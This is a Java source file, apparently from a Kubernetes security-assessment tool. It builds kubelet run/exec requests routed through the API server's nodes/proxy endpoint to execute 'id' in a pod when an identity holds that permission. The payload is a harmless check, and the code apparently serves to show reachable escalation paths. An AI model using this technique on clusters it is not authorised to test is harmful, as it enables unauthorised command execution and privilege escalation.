package dev.postern.attack.call;

import com.google.common.collect.ImmutableList;
import dev.postern.model.Pod;
import dev.postern.rbac.UserInfo;
import java.util.Optional;

/** NODE_PROXY_EXEC: the kubelet's own way to run a command, reached through the API server. */
final class NodeProxies implements CallBuilder {
    @Override
    public ImmutableList<ApiCall> calls(Attempt attempt) {
        for (Pod pod : Streams.pods(attempt)) {
            if (pod.nodeName().isEmpty() || pod.spec().containers().isEmpty()) {
                continue;
            }
            String node = pod.nodeName().get();
            String container = pod.spec().containers().get(0).name();
            String target = "/"
                    + String.join(
                            "/",
                            ApiPath.encoded(pod.namespace()),
                            ApiPath.encoded(pod.meta().name()),
                            ApiPath.encoded(container));
            Optional<UserInfo> who = attempt.who("create", "", "nodes/proxy", "", node);
            if (who.isPresent()) {
                return ImmutableList.of(ApiCall.proxied(
                        who.get(),
                        "create",
                        "POST",
                        ApiPath.core("", "nodes", node, "/proxy/run" + target + "?cmd=id")));
            }
            who = attempt.who("get", "", "nodes/proxy", "", node);
            if (who.isPresent()) {
                return ImmutableList.of(ApiCall.stream(
                        who.get(),
                        "get",
                        "GET",
                        ApiPath.core("", "nodes", node, "/proxy/exec" + target + "?command=id&output=1")));
            }
        }
        return ImmutableList.of();
    }
}
